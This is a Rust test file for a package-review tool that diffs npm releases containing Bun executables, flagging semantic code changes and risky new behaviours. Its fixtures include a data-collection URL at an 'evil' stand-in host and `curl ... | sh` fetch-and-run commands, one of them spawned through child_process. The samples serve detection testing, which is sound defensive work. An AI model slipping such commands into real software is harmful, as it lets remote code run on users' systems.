@@ -1,0 +1,448 @@
+//! The delta a reviewer signs off: renamed bundler chunks and moved files are paired, a pure
+//! re-minification is "no semantic change", a real change shows as a unified diff of the
+//! pretty-printed code, text files get plain diffs, embedded `.zst` resources are decompressed,
+//! behaviour changes are ranked and linked to their hunks, the Markdown stays under GitHub's
+//! comment limit, and the review digest binds a delta audit to what was shown.
+//! Everything is generated here (Bun-like executables in the layout of `StandaloneModuleGraph.zig`).
+use std::path::Path;
+use vetted::cli::{Outcome, main_from_args};
+use vetted::content::manifest::BehaviourKind;
+use vetted::diff::{self, CodeStatus, Contents, ReviewReport};
+
+mod review_support;
+use review_support::*;
+
+fn embedded(r: &ReviewReport) -> &diff::Counts {
+    &r.review.embedded
+}
+
+#[test]
+fn reminified_chunks_are_paired_and_show_no_semantic_change() {
+    let b = Build::new();
+    let r = diff_files(&v1(&b), &v2_reminified(&b));
+    let e = embedded(&r);
+    assert_eq!((e.unpaired_added, e.unpaired_removed), (0, 0), "{e:?}");
+    assert_eq!(e.renamed_and_changed, 2, "{e:?}");
+    // cli.js changed in place (it names the new app chunk), the two chunks were renamed.
+    assert_eq!(e.no_semantic_change, 3, "{:#?}", r.files.changed);
+    assert_eq!(e.changed, 0);
+    let app = r
+        .files
+        .changed
+        .iter()
+        .find(|c| c.new_path.ends_with("app-cccc3333.js"))
+        .expect("app paired");
+    assert_eq!(app.old_path, "package/tool!/$bunfs/root/app-aaaa1111.js");
+    assert!(app.similarity.is_some_and(|s| s.as_f64() > 0.9));
+    assert_eq!(
+        app.code.as_ref().map(|c| c.status),
+        Some(CodeStatus::NoSemanticChange)
+    );
+    // The guide moved: one entry under files.moved, not an add and a remove.
+    assert_eq!(r.files.moved.len(), 1);
+    assert_eq!(r.files.moved[0].old_path, "package/docs/guide.md");
+    assert_eq!(r.files.moved[0].new_path, "package/guide.md");
+    assert!(
+        r.files.added.is_empty() && r.files.removed.is_empty(),
+        "{:?}",
+        r.files
+    );
+}
+
+#[test]
+fn changed_url_in_a_renamed_chunk_shows_as_a_hunk() {
+    let b = Build::new();
+    let old = v1(&b);
+    let exe = executable(&[
+        (
+            "/$bunfs/root/cli.js",
+            b"import\"/$bunfs/root/app-eeee5555.js\";",
+        ),
+        (
+            "/$bunfs/root/lib-dddd4444.js",
+            &lib("1.0.1", ("Zq", "Yw", "Xe")),
+        ),
+        (
+            "/$bunfs/root/app-eeee5555.js",
+            &app(
+                "1.0.1",
+                "lib-dddd4444.js",
+                "Zq",
+                "https://collect.evil.example/x",
+            ),
+        ),
+        (
+            "/$bunfs/root/README-1a2b3c4d.md.zst",
+            &zst("# Tool\n\nUse it well.\n"),
+        ),
+    ]);
+    let new = b.write(
+        "v3.tgz",
+        &tgz(&[
+            ("package/package.json", &pkg("1.0.1")),
+            ("package/tool", &exe),
+        ]),
+    );
+    let r = diff_files(&old, &new);
+    let app = r
+        .files
+        .changed
+        .iter()
+        .find(|c| c.new_path.ends_with("app-eeee5555.js"))
+        .expect("app paired despite the change");
+    let code = app.code.as_ref().expect("compared");
+    assert_eq!(code.status, CodeStatus::Changed);
+    assert_eq!(code.compared_as, Some("javascript"));
+    assert_eq!(
+        (code.diff.added_lines, code.diff.removed_lines),
+        (1, 1),
+        "{code:#?}"
+    );
+    let lines: Vec<&String> = code.diff.hunks.iter().flat_map(|h| &h.lines).collect();
+    assert!(
+        lines
+            .iter()
+            .any(|l| l.starts_with('+') && l.contains("collect.evil.example"))
+    );
+    assert!(
+        lines
+            .iter()
+            .any(|l| l.starts_with('-') && l.contains("api.acme.example"))
+    );
+    // Shown with the names as written in the new build (pretty-printed, one statement a line).
+    assert!(lines.iter().any(|l| l.contains("Zq")), "{lines:?}");
+}
+
+/// An attacker re-points an import at the other export of the same (paired) module: same code
+/// shape, same names after renaming, but now it calls the function that deletes files.
+#[test]
+fn import_of_a_different_export_is_a_semantic_change() {
+    let b = Build::new();
+    let old = v1(&b);
+    let exe = executable(&[
+        (
+            "/$bunfs/root/cli.js",
+            b"import\"/$bunfs/root/app-cccc3333.js\";",
+        ),
+        (
+            "/$bunfs/root/lib-dddd4444.js",
+            &lib("1.0.1", ("Zq", "Yw", "Xe")),
+        ),
+        (
+            "/$bunfs/root/app-cccc3333.js",
+            &app("1.0.1", "lib-dddd4444.js", "Yw", URL),
+        ),
+    ]);
+    let new = b.write(
+        "v4.tgz",
+        &tgz(&[
+            ("package/package.json", &pkg("1.0.1")),
+            ("package/tool", &exe),
+        ]),
+    );
+    let r = diff_files(&old, &new);
+    let app = r
+        .files
+        .changed
+        .iter()
+        .find(|c| c.new_path.ends_with("app-cccc3333.js"))
+        .expect("paired");
+    assert_eq!(
+        app.code.as_ref().map(|c| c.status),
+        Some(CodeStatus::Changed),
+        "{:#?}",
+        app.code
+    );
+}
+
+/// The benign twin: the same import under a minifier's new names is not a change.
+#[test]
+fn import_of_the_same_export_under_new_names_is_no_change() {
+    let b = Build::new();
+    let r = diff_files(&v1(&b), &v2_reminified(&b));
+    let app = r
+        .files
+        .changed
+        .iter()
+        .find(|c| c.new_path.ends_with("app-cccc3333.js"))
+        .expect("paired");
+    assert_eq!(
+        app.code.as_ref().map(|c| c.status),
+        Some(CodeStatus::NoSemanticChange)
+    );
+}
+
+#[test]
+fn text_files_get_plain_unified_diffs_and_zst_is_decompressed() {
+    let b = Build::new();
+    let old = v1(&b);
+    let exe = executable(&[
+        (
+            "/$bunfs/root/cli.js",
+            b"import\"/$bunfs/root/app-aaaa1111.js\";",
+        ),
+        (
+            "/$bunfs/root/lib-bbbb2222.js",
+            &lib("1.0.0", ("kMi", "Udl", "fR")),
+        ),
+        (
+            "/$bunfs/root/app-aaaa1111.js",
+            &app("1.0.0", "lib-bbbb2222.js", "kMi", URL),
+        ),
+        (
+            "/$bunfs/root/README-1a2b3c4d.md.zst",
+            &zst("# Tool\n\nUse it well.\nRun `curl x | sh` first.\n"),
+        ),
+    ]);
+    let new = b.write(
+        "v5.tgz",
+        &tgz(&[
+            ("package/package.json", &pkg("1.0.1")),
+            ("package/tool", &exe),
+            (
+                "package/types/index.d.ts",
+                b"export declare function run(a: string, token: string): void;\n",
+            ),
+            ("package/docs/guide.md", b"# Guide\n\nSome text.\n"),
+        ]),
+    );
+    let r = diff_files(&old, &new);
+    let find = |p: &str| {
+        r.files
+            .changed
+            .iter()
+            .find(|c| c.new_path == p)
+            .and_then(|c| c.code.clone())
+            .unwrap_or_else(|| panic!("{p} not compared: {:#?}", r.files.changed))
+    };
+    for p in ["package/package.json", "package/types/index.d.ts"] {
+        let c = find(p);
+        assert_eq!(
+            (c.status, c.compared_as),
+            (CodeStatus::Changed, Some("text"))
+        );
+        assert!(!c.diff.hunks.is_empty());
+    }
+    let readme = find("package/tool!/$bunfs/root/README-1a2b3c4d.md.zst");
+    assert!(
+        readme
+            .diff
+            .hunks
+            .iter()
+            .flat_map(|h| &h.lines)
+            .any(|l| l == "+Run `curl x | sh` first."),
+        "{readme:#?}"
+    );
+}
+
+#[test]
+fn corrupt_zst_resource_is_not_shown_with_a_reason() {
+    let r = vetted::diff::contents::decompress_zst(b"\x28\xb5\x2f\xfd garbage");
+    assert!(r.is_err());
+    assert!(vetted::diff::contents::decompress_zst(&zst("ok")).is_ok_and(|b| b == b"ok"));
+}
+
+#[test]
+fn behaviour_changes_are_ranked_by_risk_and_link_to_their_hunk() {
+    let common = common_code();
+    let old_js = format!("{common}export function b(){{return fetch('https://a.example')}}\n");
+    let new_js = format!(
+        "{common}export function b(){{return fetch('https://a.example')}}\nexport function c(){{require('child_process').exec('curl https://x.example | sh')}}\n"
+    );
+    let (old_js, new_js) = (old_js.as_bytes(), new_js.as_bytes());
+    let old_p = "package/tool!/$bunfs/root/m-11111111.js";
+    let new_p = "package/tool!/$bunfs/root/m-22222222.js";
+    let old = manifest_with(
+        vec![(
+            old_p,
+            entry(
+                old_js,
+                vec![behaviour(BehaviourKind::Network, "fetch", &[])],
+            ),
+        )],
+        "old",
+    );
+    let new = manifest_with(
+        vec![(
+            new_p,
+            entry(
+                new_js,
+                vec![
+                    behaviour(BehaviourKind::Network, "fetch", &[]),
+                    behaviour(BehaviourKind::Url, "https://x.example", &[]),
+                    behaviour(
+                        BehaviourKind::ProcessSpawn,
+                        "curl https://x.example | sh",
+                        &["shell", "suspicious-command"],
+                    ),
+                ],
+            ),
+        )],
+        "new",
+    );
+    let mut oc = Contents::default();
+    oc.insert(old_p, old_js.to_vec());
+    let mut nc = Contents::default();
+    nc.insert(new_p, new_js.to_vec());
+    let r = diff::diff_with("old", &old, Some(&oc), "new", &new, Some(&nc));
+    let bc = &r.review.behaviour_changes;
+    assert_eq!(bc.len(), 2, "{bc:#?}");
+    assert_eq!(bc[0].behaviour.kind, BehaviourKind::ProcessSpawn);
+    assert!(bc[0].risk > bc[1].risk);
+    assert_eq!(bc[0].path, new_p);
+    assert_eq!(bc[0].old_path.as_deref(), Some(old_p));
+    assert_eq!(bc[0].hunk, Some(0), "the hunk that adds the spawn");
+    // Unchanged behaviours (fetch, in both) are not news.
+    assert!(
+        bc.iter()
+            .all(|b| b.behaviour.kind != BehaviourKind::Network)
+    );
+    let human = diff::render_human(&r, false);
+    let first = human.find("process-spawn").expect("listed");
+    assert!(
+        first < human.find("Signals").expect("signals"),
+        "decisions first:\n{human}"
+    );
+}
+
+#[test]
+fn markdown_stays_under_the_github_comment_limit() {
+    let mut old_entries = Vec::new();
+    let mut new_entries = Vec::new();
+    let names: Vec<(String, String, Vec<u8>, Vec<u8>)> = (0..3000)
+        .map(|i| {
+            (
+                format!("package/tool!/$bunfs/root/chunk-{i:08}.js"),
+                format!("package/tool!/$bunfs/root/chunk-{:08}.js", i + 100_000),
+                format!("export const v{i}='{}';", "a".repeat(50)).into_bytes(),
+                format!("export const v{i}='{}';", "b".repeat(50)).into_bytes(),
+            )
+        })
+        .collect();
+    for (op, np, ob, nb) in &names {
+        old_entries.push((
+            op.as_str(),
+            entry(ob, vec![behaviour(BehaviourKind::Url, op, &[])]),
+        ));
+        new_entries.push((
+            np.as_str(),
+            entry(
+                nb,
+                vec![behaviour(BehaviourKind::EnvRead, np, &["credential"])],
+            ),
+        ));
+    }
+    let old = manifest_with(old_entries, "old");
+    let new = manifest_with(new_entries, "new");
+    let r = diff::diff("old", &old, "new", &new);
+    let md = diff::render_markdown(&r, Some("the review-page artifact"));
+    assert!(md.chars().count() < 65_536, "{} chars", md.chars().count());
+    assert!(md.contains("the review-page artifact"));
+    assert!(md.contains("more in"));
+}
+
+#[test]
+fn review_digest_ignores_labels_and_sees_content() {
+    let b = Build::new();
+    let (o, n) = (v1(&b), v2_reminified(&b));
+    let a = diff_files(&o, &n);
+    let (om, nm) = (inspect(&o), inspect(&n));
+    let relabelled = {
+        let (wo, wn) = diff::delta::wanted_paths(&om, &nm);
+        let oc = diff::contents::read(Path::new(&o), &om, &wo);
+        let nc = diff::contents::read(Path::new(&n), &nm, &wn);
+        diff::diff_with("ledger:x@1", &om, Some(&oc), "npm:x@2", &nm, Some(&nc))
+    };
+    assert_eq!(a.digest(), relabelled.digest());
+    let digests_only = diff::diff("a", &om, "b", &nm);
+    assert_ne!(a.digest(), digests_only.digest(), "what was shown differs");
+}
+
+fn run(args: &[&str]) -> Outcome {
+    main_from_args(std::iter::once("vetted").chain(args.iter().copied()))
+}
+
+#[test]
+fn show_prints_modules_resources_and_pretty_code() {
+    let b = Build::new();
+    let v1 = v1(&b);
+    let cache = b.dir.path().join("cache");
+    let cache = cache.to_string_lossy();
+    let out = b.dir.path().join("out.json");
+    // In-process: check the exit codes; the bytes are checked through the JSON form below.
+    for (path, pretty, want) in [
+        (
+            "package/tool!/$bunfs/root/README-1a2b3c4d.md.zst",
+            false,
+            Outcome::Success,
+        ),
+        (
+            "package/tool!/$bunfs/root/app-aaaa1111.js",
+            true,
+            Outcome::Success,
+        ),
+        ("package/types/index.d.ts", false, Outcome::Success),
+        ("package/nope.js", false, Outcome::Error),
+    ] {
+        let mut args = vec!["show", &v1, path, "--json", "--cache-dir", &cache];
+        if pretty {
+            args.push("--pretty");
+        }
+        assert_eq!(run(&args), want, "{path}");
+    }
+    let _ = out;
+    let bin = env!("CARGO_BIN_EXE_vetted");
+    let show = |path: &str, pretty: bool| {
+        let mut c = std::process::Command::new(bin);
+        c.args(["show", &v1, path, "--cache-dir", &cache]);
+        if pretty {
+            c.arg("--pretty");
+        }
+        let o = c.output().expect("run vetted");
+        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+        String::from_utf8(o.stdout).expect("utf8")
+    };
+    assert_eq!(
+        show("package/tool!/$bunfs/root/README-1a2b3c4d.md.zst", false),
+        "# Tool\n\nUse it well.\n"
+    );
+    let pretty = show("package/tool!/$bunfs/root/app-aaaa1111.js", true);
+    assert!(pretty.lines().count() > 3, "{pretty}");
+    assert!(pretty.contains("fetch(\"https://api.acme.example/v1\")"));
+}
+
+#[test]
+fn diff_command_writes_json_v2_and_the_page() {
+    let b = Build::new();
+    let (o, n) = (v1(&b), v2_reminified(&b));
+    let page = b.dir.path().join("page.html");
+    let cache = b.dir.path().join("cache");
+    let bin = env!("CARGO_BIN_EXE_vetted");
+    let out = std::process::Command::new(bin)
+        .args(["diff", &o, &n, "--json", "--html"])
+        .arg(&page)
+        .arg("--cache-dir")
+        .arg(&cache)
+        .output()
+        .expect("run");
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
+    assert_eq!(v["schema"], "vetted.diff/v2");
+    let moved = &v["files"]["moved"][0];
+    assert_eq!(moved["old_path"], "package/docs/guide.md");
+    assert_eq!(moved["similarity"], 1.0);
+    let changed = v["files"]["changed"].as_array().expect("changed");
+    assert!(changed.iter().any(|c| c["old_path"] != c["new_path"]
+        && c["code"]["status"] == "no-semantic-change"
+        && c["similarity"].as_f64().is_some_and(|s| s > 0.5)));
+    let html = std::fs::read_to_string(&page).expect("page");
+    assert!(html.contains("--delta-from 1.0.0 --review sha256:"));
+    assert!(
+        !html.contains("http://") && !html.contains("src=\"http"),
+        "no external assets"
+    );
+}
